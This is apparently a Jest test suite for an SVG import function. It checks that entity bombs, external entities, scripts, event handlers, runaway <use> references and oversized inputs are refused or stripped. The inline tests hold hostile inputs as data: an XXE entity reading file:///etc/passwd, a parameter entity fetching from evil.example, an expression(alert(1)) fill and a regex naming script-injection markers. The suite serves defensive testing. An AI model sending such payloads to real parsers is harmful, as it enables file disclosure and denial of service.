// Hostile files: entities are never expanded nor fetched, scripts and event handlers never reach the
// document, malformed XML is refused with its line, and the input is bounded.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Messages, SceneDocument, SceneLimits } from '@wb/contracts';
import { DrawLimits } from './convert';
import { importSvg } from './importSvg';
import { XmlLimits } from './xmlTree';

const fixture = (name: string): string => readFileSync(join(__dirname, 'fixtures', name), 'utf8');
const importText = (text: string) => importSvg(text, { sceneID: 'scene-1', fileName: 'hostile.svg' });
const scene = (content: string): string => `<svg xmlns="http://www.w3.org/2000/svg"><g id="Scene">${content}</g><g id="Animation"><g id="a"/></g></svg>`;

describe('a file with a DTD', () => {
  it('refuses a billion laughs without expanding it', () => {
    // Expanding it would take gigabytes and minutes (the test's own time limit would end it).
    const result = importText(fixture('billion-laughs.svg'));
    expect(result.problems).toEqual([{ message: Messages.importEntitiesRefused, where: null }]);
    expect(JSON.stringify(result.document)).not.toContain('lollol');
  });

  it('refuses an external entity without fetching it, naming its target', () => {
    const result = importText(fixture('external-entity.svg'));
    expect(result.problems).toEqual([{ message: Messages.importExternalEntityRefused('file:///etc/passwd'), where: null }]);
    expect(JSON.stringify(result.document)).not.toContain('root:');
  });

  it('refuses a parameter entity pointing elsewhere', () => {
    const text = '<!DOCTYPE svg [ <!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote; ]><svg/>';
    expect(importText(text).problems).toEqual([{ message: Messages.importExternalEntityRefused('http://evil.example/x.dtd'), where: null }]);
  });

  it('reads an entity it was never told of as malformed, never as text', () => {
    expect(importText(fixture('undeclared-entity.svg')).problems).toEqual([{ message: Messages.importMalformedXml(2, 48, 'undefined entity'), where: null }]);
  });

  it("finds the groups inside the <switch> of Illustrator's Save As, its private data dropped", () => {
    const text =
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:i="http://ns.adobe.com/AdobeIllustrator/10.0/">' +
      '<switch><foreignObject requiredExtensions="http://ns.adobe.com/AdobeIllustrator/10.0/"><i:pgfRef xlink:href="#adobe_illustrator_pgf"/></foreignObject>' +
      '<g i:extraneous="self"><g id="Scene"><circle id="dot" r="5"/></g><g id="Animation"><path d="M0 0H5" fill="none" stroke="#000"/></g></g></switch></svg>';
    const result = importText(text);
    expect(result.problems).toEqual([]);
    expect(result.document.elements.map((e) => e.name)).toEqual(['dot']);
  });

  it("takes Illustrator's plain DOCTYPE (a public id, never fetched)", () => {
    expect(importText(fixture('valid.svg')).problems).toEqual([]);
  });
});

describe('a file with scripts and event handlers', () => {
  const result = importText(fixture('script-and-events.svg'));

  it('imports the drawing', () => {
    expect(result.problems).toEqual([]);
    expect(result.document.elements.map((e) => e.name)).toEqual(['dot', 'link']);
  });

  it('keeps no script, event attribute, javascript: address or foreign HTML', () => {
    const json = JSON.stringify(result.document);
    expect(json).not.toMatch(/alert|javascript|onload|onclick|onmouseover|<div/i);
  });
});

describe('a malformed file', () => {
  it("is refused with the parser's line and column", () => {
    expect(importText(fixture('malformed.svg')).problems).toEqual([{ message: Messages.importMalformedXml(4, 4, 'unexpected close tag'), where: null }]);
  });

  it('is refused when it is not XML at all', () => {
    const [problem] = importText('this is not a drawing').problems;
    expect(problem?.message).toMatch(/^This SVG file is not well-formed XML \(line 1, column \d+\): /);
  });

  it('is refused when it is not an SVG', () => {
    expect(importText(fixture('not-svg.svg')).problems).toEqual([{ message: Messages.importNotSvg('html'), where: null }]);
  });

  it('is refused when empty', () => {
    expect(importText('').problems).toHaveLength(1);
  });
});

describe('the bounds of a file', () => {
  it('refuses more bytes than an SVG may have', () => {
    const text = `<svg xmlns="http://www.w3.org/2000/svg"><!--${'x'.repeat(SceneLimits.maxSvgBytes)}--></svg>`;
    expect(importText(text).problems).toEqual([{ message: Messages.importFileTooLarge, where: null }]);
  });

  it('refuses more elements than it reads', () => {
    const text = `<svg xmlns="http://www.w3.org/2000/svg">${'<g/>'.repeat(XmlLimits.maxElements + 1)}</svg>`;
    expect(importText(text).problems).toEqual([{ message: Messages.importTooManyElements(XmlLimits.maxElements), where: null }]);
  });

  it('refuses <use> references that would multiply into more elements than a scene may have, without making them', () => {
    // Ten levels of ten uses each: ten billion circles if they were all made.
    const levels = Array.from({ length: 10 }, (_, i) => `<g id="l${i + 1}">${Array.from({ length: 10 }, () => `<use href="#l${i}"/>`).join('')}</g>`).join('');
    const text = `<svg xmlns="http://www.w3.org/2000/svg"><defs><circle id="l0" r="1"/>${levels}</defs>` + '<g id="Scene"><use href="#l10"/></g><g id="Animation"><g id="a"/></g></svg>';
    // Making them would take hours (the test's own time limit would end it).
    expect(importText(text).problems).toEqual([{ message: Messages.importTooManyElementsInScene, where: null }]);
  });

  it('refuses a <use> of a group around it, naming the <use>', () => {
    const text = '<svg xmlns="http://www.w3.org/2000/svg"><g id="Scene"><g id="loop"><circle r="1"/><use id="again" href="#loop"/></g></g><g id="Animation"><g id="a"/></g></svg>';
    expect(importText(text).problems).toEqual([{ message: Messages.importUseCycle('again'), where: 'again' }]);
  });

  it('refuses a <use> of itself (a RangeError before)', () => {
    const text = scene('<use id="u1" href="#u1"/>');
    expect(importText(text).problems).toEqual([{ message: Messages.importUseCycle('u1'), where: 'u1' }]);
  });

  it('refuses two <use> that refer to each other, naming the one that closes the loop', () => {
    const text = scene('<g id="pair"><use id="u1" href="#u2"/><use id="u2" href="#u1"/></g>');
    // Drawing u1 follows u2 back to u1; drawing u2 then follows u1 back to u2.
    expect(importText(text).problems).toEqual([
      { message: Messages.importUseCycle('u2'), where: 'u2' },
      { message: Messages.importUseCycle('u1'), where: 'u1' },
    ]);
  });

  it('refuses a chain of <use> deeper than it follows, without following it', () => {
    const chain = Array.from({ length: 5000 }, (_, i) => `<use id="u${i}" href="#u${i + 1}"/>`).join('');
    const text = `<svg xmlns="http://www.w3.org/2000/svg"><defs>${chain}<circle id="u5000" r="1"/></defs>` + '<g id="Scene"><use id="start" href="#u0"/></g><g id="Animation"><g id="a"/></g></svg>';
    const deepest = `u${DrawLimits.maxUseNesting - 1}`;
    expect(importText(text).problems).toEqual([{ message: Messages.importUseTooDeep(deepest, DrawLimits.maxUseNesting), where: deepest }]);
  });

  it('follows a short chain of <use> and draws its end', () => {
    const text =
      '<svg xmlns="http://www.w3.org/2000/svg"><defs><circle id="dot" r="1"/><use id="u1" href="#dot"/><use id="u2" href="#u1"/></defs>' +
      '<g id="Scene"><use id="start" href="#u2"/></g><g id="Animation"><g id="a"/></g></svg>';
    const result = importText(text);
    expect(result.problems).toEqual([]);
    expect(result.document.elements.map((e) => e.type)).toEqual(['path']);
  });

  it('refuses groups drawn inside one another deeper than a scene holds, naming the first too deep', () => {
    const depth = DrawLimits.maxGroupDepth + 1;
    const groups = Array.from({ length: depth }, (_, i) => `<g id="g${i + 1}">`).join('');
    const text = scene(`${groups}<circle r="1"/>${'</g>'.repeat(depth)}`);
    expect(importText(text).problems).toEqual([{ message: Messages.importGroupsTooDeep(`g${depth}`, DrawLimits.maxGroupDepth), where: `g${depth}` }]);
  });

  it('keeps groups as deep as a scene holds, wrapped by their step, and the document saves', () => {
    const depth = DrawLimits.maxGroupDepth;
    const text =
      `<svg xmlns="http://www.w3.org/2000/svg"><g id="Scene">${'<g>'.repeat(depth)}<path d="M0 0H9" stroke="#000" fill="none"/>${'</g>'.repeat(depth)}</g>` +
      '<g id="Animation"><path d="M0 0H9" fill="none" stroke="#000"/></g></svg>';
    const result = importText(text);
    expect(result.problems).toEqual([]);
    expect(result.document.elements[0]?.type).toBe('mask');
    expect(SceneDocument.safeParse(result.document).success).toBe(true);
  });

  it('refuses groups nested deeper than it walks', () => {
    const depth = XmlLimits.maxDepth + 1;
    const text = `<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(depth)}${'</g>'.repeat(depth)}</svg>`;
    expect(importText(text).problems).toEqual([{ message: Messages.importTooDeep(XmlLimits.maxDepth), where: null }]);
  });

  it('refuses an element with more attributes than drawings carry, as they arrive', () => {
    const attributes = (count: number) => Array.from({ length: count }, (_, i) => ` a${i}="1"`).join('');
    const text = (count: number) => `<svg xmlns="http://www.w3.org/2000/svg"><g id="Scene"><path d="M0 0H9"${attributes(count)}/></g><g id="Animation"><g id="a"/></g></svg>`;
    expect(importText(text(200_000)).problems).toEqual([{ message: 'This SVG file has an element with more than 1,000 attributes, too many to import.', where: null }]);
    expect(importText(text(XmlLimits.maxAttributes - 2)).problems).not.toContainEqual(expect.objectContaining({ message: Messages.importTooManyAttributes(XmlLimits.maxAttributes) }));
  });
});

describe('what a file says that a saved scene cannot hold', () => {
  const scene = (content: string): string => `<svg xmlns="http://www.w3.org/2000/svg"><g id="Scene">${content}</g><g id="Animation"><g id="a"/></g></svg>`;

  it('paints black a colour that is no colour, and keeps only known caps and joins', () => {
    const result = importText(scene('<path d="M0 0L9 9" fill="expression(alert(1))" stroke="#ABC" stroke-linecap="url(x)" stroke-linejoin="bevel"/>'));
    expect(result.problems).toEqual([]);
    expect(result.document.elements[0]?.props.style).toMatchObject({ fill: '#000000', stroke: '#ABC', strokeLinecap: 'butt', strokeLinejoin: 'bevel' });
  });

  it('refuses a path longer than a document may hold, saying where', () => {
    const result = importText(scene(`<path id="huge" d="M0 0${'L1 1'.repeat(600_000)}"/>`));
    expect(result.problems).toHaveLength(1);
    expect(result.problems[0]?.message).toMatch(/^This SVG file gives a scene that cannot be saved \(elements\.0\.d: /);
  });
});
